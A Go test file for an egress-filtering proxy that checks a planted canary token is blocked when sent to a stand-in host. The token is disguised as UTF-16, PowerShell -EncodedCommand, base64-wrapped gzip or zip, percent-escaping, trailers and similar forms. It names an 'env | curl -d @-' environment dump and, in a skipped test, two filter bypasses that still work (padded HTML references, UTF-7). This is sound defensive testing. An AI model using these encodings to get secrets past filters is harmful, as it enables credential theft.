package egress

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"io"
	"math/rand/v2"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"net/url"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/bb-bottles/bb/lib/audit"
	"github.com/bb-bottles/bb/lib/detect"
)

// utf16LE and utf16BE are s in UTF-16, without a byte order mark.
func utf16LE(s string) []byte {
	var b []byte
	for _, r := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, r)
	}
	return b
}

func utf16BE(s string) []byte {
	var b []byte
	for _, r := range utf16.Encode([]rune(s)) {
		b = binary.BigEndian.AppendUint16(b, r)
	}
	return b
}

// TestAttackReqUTF16: a file written by a Windows tool (UTF-16, either
// byte order, with its byte order mark) or a PowerShell -EncodedCommand
// (base64 of UTF-16LE) carries the canary whole to whoever reads it back.
// It is blocked in a body around MaxScanBody and over both HTTP versions,
// and nothing of it reaches the upstream.
func TestAttackReqUTF16(t *testing.T) {
	h := newHarness(t, "", roomyLog)
	const limit = 1 << 20
	file := "$env:TOKEN = '" + h.canary + "'\r\n"
	forms := map[string][]byte{
		"utf-16le":        append([]byte{0xff, 0xfe}, utf16LE(file)...),
		"utf-16be":        append([]byte{0xfe, 0xff}, utf16BE(file)...),
		"base64 utf-16le": []byte("powershell -EncodedCommand " + base64.StdEncoding.EncodeToString(utf16LE(file))),
	}
	u := h.tlsURL("other.test", "/up")
	for _, h2 := range []bool{false, true} {
		c := h.client(h2)
		for name, enc := range forms {
			for _, size := range []int{len(enc), limit - 1, limit, limit + 1, 3 * limit} {
				body := enc
				if size > len(enc) {
					body = append(bytes.Repeat([]byte{' ', 0}, (size-len(enc))/2), enc...)
					body = append(bytes.Repeat([]byte{' '}, size-len(body)), body...)
				}
				before := h.upIdle()
				st, _ := h.post(t, c, u, "text/plain; charset=utf-16", body)
				if st != 403 {
					t.Errorf("h2 %v, %s in %d bytes: status %d", h2, name, size, st)
				}
				if got := h.sentSince(before); bytes.Contains(got, enc[len(enc)-24:]) {
					t.Errorf("h2 %v, %s in %d bytes: the upstream received its end", h2, name, size)
				}
			}
		}
	}
	e := h.waitEntry("a utf-16 block", func(e audit.Entry) bool { return e.Canary && e.Encoding == "utf-16" })
	if e.Status != 403 || e.Decision != audit.Block {
		t.Errorf("logged %+v", e)
	}
}

// TestAttackReqCanaryAfterAnotherSecret: a dump of the agent's
// environment (env | curl -d @-) holds a placeholder before the canary.
// The scan stops at the first secret; the log line must still name the
// canary, or bb-canary check says it was never seen. Tried with the
// placeholder in a header and the canary in the body, both in a small
// body, and in a large one with the canary far past the first MiB, over
// both HTTP versions.
func TestAttackReqCanaryAfterAnotherSecret(t *testing.T) {
	h := newHarness(t, "", roomyLog)
	const limit = 1 << 20
	env := "EGRESS_PLACEHOLDER_API=" + placeholder + "\nEGRESS_TOKEN_CANARY=" + h.canary + "\n"
	type tc struct {
		header string
		body   []byte
	}
	cases := map[string]tc{
		"small body":               {"", []byte(env)},
		"canary compressed":        {"", append([]byte("P="+placeholder+"\n"), gz([]byte(env))...)},
		"canary base64 gzip":       {"", []byte("P=" + placeholder + "\nZ=" + base64.StdEncoding.EncodeToString(gz([]byte(env))))},
		"header then body":         {placeholder, []byte("EGRESS_TOKEN_CANARY=" + h.canary)},
		"body at limit":            {"", padTo(limit, env)},
		"large body":               {"", append(append([]byte(env[:len(env)/2]), bytes.Repeat([]byte("x\n"), limit)...), env[len(env)/2:]...)},
		"large, placeholder first": {"", append(append([]byte("P="+placeholder+"\n"), bytes.Repeat([]byte("y\n"), 2*limit)...), env...)},
	}
	for _, h2 := range []bool{false, true} {
		c := h.client(h2)
		for name, k := range cases {
			n := len(h.entries())
			req := mustReq("POST", h.tlsURL("other.test", "/up"), bytes.NewReader(k.body))
			if k.header != "" {
				req.Header.Set("X-Who", k.header)
			}
			if st, _, _ := h.do(c, req); st != 403 {
				t.Errorf("h2 %v, %s: status %d", h2, name, st)
			}
			h.wantCanaryBlock(t, n, fmt.Sprintf("h2 %v, %s", h2, name))
			for _, e := range h.entries()[n:] {
				if e.Canary && !strings.Contains(e.Reason, "PLACEHOLDER_API") {
					t.Errorf("h2 %v, %s: the line does not name the other secret: %s", h2, name, e.Reason)
				}
			}
		}
	}
}

func zlibOf(b []byte) []byte {
	var o bytes.Buffer
	w := zlib.NewWriter(&o)
	w.Write(b)
	w.Close()
	return o.Bytes()
}

// onePart is a multipart/form-data body of one part with the header
// hdr and content.
func onePart(hdr textproto.MIMEHeader, content []byte) (string, []byte) {
	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	p, _ := w.CreatePart(hdr)
	p.Write(content)
	w.Close()
	return w.FormDataContentType(), b.Bytes()
}

// TestAttackReqEscapedCompressed: the upload of a compressed file is
// escaped more often than not: base64 in JSON (GitHub's contents API
// wraps it at 60 columns with "\n"), percent-escaped in a form, base64 in
// a multipart part with Content-Transfer-Encoding: base64, zlib behind a
// prefix. A body up to MaxScanBody is opened through its views: each is
// blocked, over both HTTP versions, at its own size and padded to the
// limit; the same with nothing secret in it goes through whole.
func TestAttackReqEscapedCompressed(t *testing.T) {
	h := newHarness(t, "", roomyLog)
	const limit = 1 << 20
	type tc struct {
		ctype string
		body  func(file []byte) []byte
	}
	b64 := base64.StdEncoding.EncodeToString
	cases := map[string]tc{
		"json base64 gzip": {"application/json", func(f []byte) []byte { return []byte(`{"content":"` + b64(gz(f)) + `"}`) }},
		"json wrapped base64 gzip": {"application/json", func(f []byte) []byte {
			return []byte(`{"content":"` + wrapEscaped(string(gz(f)), 60, `\n`) + `"}`)
		}},
		"json base64url zip": {"application/json", func(f []byte) []byte {
			z := zipArchive(zip.Deflate, map[string][]byte{"env.sh": f})
			return []byte(`{"zip":"` + base64.RawURLEncoding.EncodeToString(z) + `"}`)
		}},
		"json base64 zlib": {"application/json", func(f []byte) []byte { return []byte(`{"z":"` + b64(zlibOf(f)) + `"}`) }},
		"form percent gzip": {"application/x-www-form-urlencoded", func(f []byte) []byte {
			return []byte("name=env.sh.gz&file=" + url.QueryEscape(string(gz(f))))
		}},
		"form percent zlib": {"application/x-www-form-urlencoded", func(f []byte) []byte {
			return []byte("file=" + url.QueryEscape(string(zlibOf(f))))
		}},
		"zlib after a prefix": {"application/octet-stream", func(f []byte) []byte { return append([]byte("BLOB\x00\x01"), zlibOf(f)...) }},
	}
	for name, k := range map[string]tc{
		"multipart base64 part": {"", func(f []byte) []byte {
			_, b := onePart(textproto.MIMEHeader{"Content-Transfer-Encoding": {"base64"},
				"Content-Disposition": {`form-data; name="f"; filename="env.sh.gz"`}}, []byte(wrapEscaped(string(gz(f)), 76, "\r\n")))
			return b
		}},
	} {
		cases[name] = k
	}
	u := h.tlsURL("other.test", "/up")
	secret := []byte("#!/bin/sh\nexport TOKEN=" + h.canary + "\n")
	clean := []byte("#!/bin/sh\nexport TOKEN=nothing-to-see-here\n")
	for _, h2 := range []bool{false, true} {
		c := h.client(h2)
		for name, k := range cases {
			for _, pad := range []bool{false, true} {
				ctype := k.ctype
				if ctype == "" {
					ctype = "multipart/form-data; boundary=" // filled in below
				}
				body := k.body(secret)
				if strings.HasPrefix(ctype, "multipart/") {
					ctype = "multipart/form-data; boundary=" + string(bytes.TrimPrefix(body[:bytes.IndexByte(body, '\r')], []byte("--")))
				}
				if pad {
					body = append(bytes.Repeat([]byte(" "), limit-len(body)), body...)
				}
				before := h.upIdle()
				if st, _ := h.post(t, c, u, ctype, body); st != 403 {
					t.Errorf("h2 %v, %s (padded %v): status %d", h2, name, pad, st)
				}
				if got := h.sentSince(before); len(got) > 0 && bytes.Contains(got, body[len(body)-32:]) {
					t.Errorf("h2 %v, %s (padded %v): the upstream received it", h2, name, pad)
				}
				cb := k.body(clean)
				if strings.HasPrefix(ctype, "multipart/") {
					ctype = "multipart/form-data; boundary=" + string(bytes.TrimPrefix(cb[:bytes.IndexByte(cb, '\r')], []byte("--")))
				}
				if st, got := h.post(t, c, u, ctype, cb); st != 200 || !bytes.Equal(got, cb) {
					t.Errorf("h2 %v, %s with nothing secret: status %d", h2, name, st)
				}
			}
		}
	}
	// Random binary data up to the limit is not refused for the zlib
	// headers it holds by chance.
	bin := make([]byte, limit)
	rng := rand.New(rand.NewPCG(3, 7))
	for i := range bin {
		bin[i] = byte(rng.Uint32())
	}
	if st, got := h.post(t, h.client(true), u, "application/octet-stream", bin); st != 200 || !bytes.Equal(got, bin) {
		t.Errorf("random binary of %d bytes: status %d", len(bin), st)
	}
}

// BenchmarkAttackReqOpenEscaped: what opening a whole body's views costs
// on top of the scan: a prompt of JSON, and a megabyte of base64 in JSON.
func BenchmarkAttackReqOpenEscaped(b *testing.B) {
	s := &Server{cfg: Config{MaxDecompressed: 16 << 20}}
	det, err := detect.NewFolded([]detect.Secret{{Name: "A", Value: apiToken}})
	if err != nil {
		b.Fatal(err)
	}
	rng := rand.New(rand.NewPCG(1, 2))
	bin := make([]byte, 760<<10)
	for i := range bin {
		bin[i] = byte(rng.Uint32())
	}
	for name, body := range map[string][]byte{
		"prompt": []byte(`{"model":"m","messages":[{"role":"user","content":"` + strings.Repeat(`a line of a prompt with \"quotes\" and \n breaks `, 40) + `"}]}`),
		"base64": []byte(`{"content":"` + base64.StdEncoding.EncodeToString(bin) + `"}`),
	} {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(body)))
			for b.Loop() {
				if f := s.newOpener(det, len(body), true).openEscaped(body, "application/json"); f != nil {
					b.Fatal(f.reason)
				}
			}
		})
	}
}

// escapeN is v percent-escaped n times over (every byte the first time).
func escapeN(v string, n int) string {
	for i := 0; i < n; i++ {
		var b strings.Builder
		for j := 0; j < len(v); j++ {
			if i == 0 {
				fmt.Fprintf(&b, "%%%02X", v[j])
			} else {
				b.WriteString(url.QueryEscape(v[j : j+1]))
			}
		}
		v = b.String()
	}
	return v
}

// TestAttackReqLogKeepsNoEscapedSecret: the head scan finds a secret in
// a path or query escaped up to five times over; the log line of the
// block must not keep it in any of those forms (it kept the four- and
// five-fold ones). Over both HTTP versions, allowed and denied hosts, and
// a plain proxy request.
func TestAttackReqLogKeepsNoEscapedSecret(t *testing.T) {
	h := newHarness(t, "", roomyLog)
	for _, h2 := range []bool{false, true} {
		c := h.client(h2)
		for n := 1; n <= 5; n++ {
			v := escapeN(h.canary, n)
			for _, u := range []string{
				h.tlsURL("other.test", "/x/"+v+"?q="+v),
				h.tlsURL("denied.test", "/x/"+v+"?q="+v),
				h.plainURL("other.test", "/x?q="+v),
			} {
				if st, _ := h.get(c, u); st != 403 {
					t.Errorf("h2 %v, escaped %d times: status %d for %s", h2, n, st, u[:40])
				}
			}
		}
	}
	for _, e := range h.entries() {
		for _, s := range []string{e.Method, e.Host, e.Path, e.Query, e.Reason} {
			for i := 0; i <= 6; i++ {
				if hit, ok := h.det.Search([]byte(s)); ok {
					t.Errorf("a log line carries %s after %d unescapes: %.60q", hit.Secret, i, s)
					break
				}
				u, err := url.QueryUnescape(s)
				if err != nil || u == s {
					break
				}
				s = u
			}
		}
	}
}

// TestAttackReqEscapedCompressedLarge: in a body over MaxScanBody, gzip
// or a zip entry that is base64-encoded (wrapped or not) or
// percent-escaped is judged as raw compressed data is: searched when it
// ends within the sniffer's window, refused (413) when it goes on; at the
// body's start, just past the first MiB and deep in it, over both HTTP
// versions. Nothing of it reaches the upstream; base64 of random bytes
// goes through whole.
func TestAttackReqEscapedCompressedLarge(t *testing.T) {
	h := newHarness(t, "", roomyLog)
	const limit = 1 << 20
	rng := rand.New(rand.NewPCG(5, 6))
	noise := make([]byte, 4<<10)
	for i := range noise {
		noise[i] = byte(rng.Uint32())
	}
	b64 := base64.StdEncoding.EncodeToString
	short := []byte("export TOKEN=" + h.canary + "\n")
	long := append(append([]byte{}, short...), []byte(b64(noise))...) // compresses to more than the window
	enc := map[string]func(z []byte) string{
		"base64":                  func(z []byte) string { return `"` + b64(z) + `"` },
		"base64 wrapped with \\n": func(z []byte) string { return `"` + wrapEscaped(string(z), 60, `\n`) + `"` },
		"percent":                 func(z []byte) string { return url.QueryEscape(string(z)) },
		"percent, every byte, lower case": func(z []byte) string {
			var b strings.Builder
			for _, c := range z {
				fmt.Fprintf(&b, "%%%02x", c)
			}
			return b.String()
		},
	}
	u := h.tlsURL("other.test", "/up")
	for _, h2 := range []bool{false, true} {
		c := h.client(h2)
		for name, e := range enc {
			for _, file := range [][]byte{short, long} {
				for _, z := range [][]byte{gz(file), zipArchive(zip.Deflate, map[string][]byte{"f": file})} {
					ez := e(z)
					for _, at := range []int{0, limit - 100, limit + 1, 3 * limit} {
						body := append(append(padTo(at+1, " "), ez...), padTo(limit/2, "\n")...)
						before := h.upIdle()
						st, _ := h.post(t, c, u, "application/json", body)
						if st != 403 && st != 413 {
							t.Errorf("h2 %v, %s of %d bytes at %d: status %d", h2, name, len(file), at, st)
						}
						if got := h.sentSince(before); bytes.Contains(got, []byte(ez[:12])) {
							t.Errorf("h2 %v, %s of %d bytes at %d: the upstream received its start", h2, name, len(file), at)
						}
					}
				}
			}
		}
	}
	bin := make([]byte, 3*limit)
	for i := range bin {
		bin[i] = byte(rng.Uint32())
	}
	body := []byte(`{"blob":"` + b64(bin) + `"}`)
	if st, got := h.post(t, h.client(true), u, "application/json", body); st != 200 || !bytes.Equal(got, body) {
		t.Errorf("base64 of %d random bytes: status %d", len(bin), st)
	}
}

// TestAttackReqOpenEscapes: escapes the decoded views do not undo. Each
// gets the canary out in a small body today.
func TestAttackReqOpenEscapes(t *testing.T) {
	t.Skip("open: an HTML reference padded past 16 characters (&#000…0114;), and UTF-7 (+AHI-) are not undone by the decoded views")
	h := newHarness(t, "", roomyLog)
	cn := h.canary
	file := "export TOKEN=" + cn + "\n"
	const b64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	for name, body := range map[string]string{
		"html padded": strings.Replace(file, cn[5:6], fmt.Sprintf("&#%020d;", cn[5]), 1),
		"utf-7":       strings.Replace(file, cn[5:6], "+AA"+string(b64[cn[5]>>2&63])+string(b64[(cn[5]&3)<<4])+"-", 1),
	} {
		if st, _ := h.post(t, h.client(false), h.tlsURL("other.test", "/up"), "text/plain", []byte(body)); st != 403 {
			t.Errorf("%s: status %d", name, st)
		}
	}
}

// trailerReader is a body whose request's trailer gets its value once the
// body is read, as a client computes a checksum trailer.
type trailerReader struct {
	r   io.Reader
	req *http.Request
	v   string
}

func (t *trailerReader) Read(p []byte) (int, error) {
	n, err := t.r.Read(p)
	if err == io.EOF {
		t.req.Trailer.Set("X-Checksum", t.v)
	}
	return n, err
}

// TestAttackReqTrailer: a secret in a request's trailers never leaves (an
// outgoing request carries none), but it was logged as an allowed request
// with canary:false. Small and large bodies, both HTTP versions: blocked,
// the canary named.
func TestAttackReqTrailer(t *testing.T) {
	h := newHarness(t, "", roomyLog)
	for _, h2 := range []bool{false, true} {
		c := h.client(h2)
		for _, size := range []int{5, 1 << 20, 3 << 20} {
			n := len(h.entries())
			req := mustReq("POST", h.tlsURL("other.test", "/up"), nil)
			req.Body = io.NopCloser(&trailerReader{r: bytes.NewReader(padTo(size, "\n")), req: req, v: h.canary})
			req.ContentLength = -1
			req.Trailer = http.Header{"X-Checksum": nil}
			if st, _, _ := h.do(c, req); st != 403 {
				t.Errorf("h2 %v, %d bytes: status %d", h2, size, st)
			}
			h.wantCanaryBlock(t, n, fmt.Sprintf("h2 %v, %d bytes", h2, size))
		}
	}
	if bytes.Contains(h.up.got(), []byte(h.canary)) {
		t.Error("the upstream received the canary")
	}
}
